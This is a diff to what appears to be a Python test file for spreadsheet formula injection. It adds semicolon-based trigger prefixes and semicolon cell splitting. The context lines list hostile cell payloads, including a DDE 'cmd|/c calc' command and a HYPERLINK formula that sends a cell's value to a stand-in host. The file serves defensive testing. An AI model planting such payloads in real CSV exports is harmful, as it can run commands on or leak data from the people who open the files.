@@ -17,7 +17,26 @@ from tests.attacks.session import Case, judge_ending
 from tests.attacks.values import find_places
 from tests.attacks.worlds import STORE, World, make_worlds, run_main
 
-SIGNS = ("=", "+", "-", "@", "\t", "\t=", "\r", "\r=", "\n=", " =", '"=', "'=", "=", "\uff1d", "x\r=", "x\n=")
+SIGNS = (
+    "=",
+    "+",
+    "-",
+    "@",
+    "\t",
+    "\t=",
+    "\r",
+    "\r=",
+    "\n=",
+    " =",
+    '"=',
+    "'=",
+    "=",
+    "\uff1d",
+    "x\r=",
+    "x\n=",
+    "x;=",
+    'x; "@',
+)
 CALLS = ("cmd|'/c calc'!A0", 'HYPERLINK("http://e.vil/"&A1)', "1+1", "SUM(A1:A9)*cmd", "IMPORTXML(A1)", 'x",=1+1')
 FORMULA = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
 RECORDS = ("sweep/0/result.json", "sweep/1/failure.json", "sweep/sweep.json")
@@ -91,9 +110,10 @@ def _run(
 
 
 def _list_cells(text: str) -> Iterator[str]:
-    """Yield the cells as spreadsheets find them: a line ends at a carriage return too."""
-    for row in csv.reader(io.StringIO(text, newline="")):
-        yield from row
+    """Yield the cells as spreadsheets find them: a line ends at a carriage return too, and a cell at a semicolon."""
+    for delimiter in ",;":
+        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
+            yield from row
 
 
 def _is_formula(cell: str) -> bool:
